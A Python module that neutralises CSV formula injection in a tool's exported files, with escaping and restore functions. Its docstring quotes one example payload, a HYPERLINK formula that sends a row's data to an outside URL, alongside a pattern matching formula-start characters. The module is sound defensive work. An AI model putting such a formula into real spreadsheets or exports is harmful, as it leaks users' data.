"""CSV cells no spreadsheet runs (OWASP "CSV injection"), read back exactly by geomap.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(some also after a leading tab or carriage return) as a formula: a facility named
``=HYPERLINK("http://…?leak="&B2,"Sources")`` would become a live link that sends the
row away. Every CSV geomap writes (exports, the counts table, join's match report) puts
a ``'`` before such a cell unless it is a plain number; a value that itself starts with
``'`` and then one of those characters gets one more ``'``, so :func:`restore` (which
geomap's CSV readers apply to every cell) gives back exactly the value written.
``--raw-cells`` writes the values as they are.
"""

import re

#: The characters that make a spreadsheet read a cell as a formula.
FORMULA_START = "=+-@\t\r"
_NEEDS_QUOTE = re.compile("'*[=+\\-@\t\r]")
_QUOTED = re.compile("'+[=+\\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value):
    """``value`` as a cell no spreadsheet runs (see the module docstring); non-text passes unchanged."""
    if isinstance(value, str) and _NEEDS_QUOTE.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore(cell):
    """The value :func:`neutralise` made ``cell`` from (any other text is returned as it is)."""
    return cell[1:] if _QUOTED.match(cell) else cell
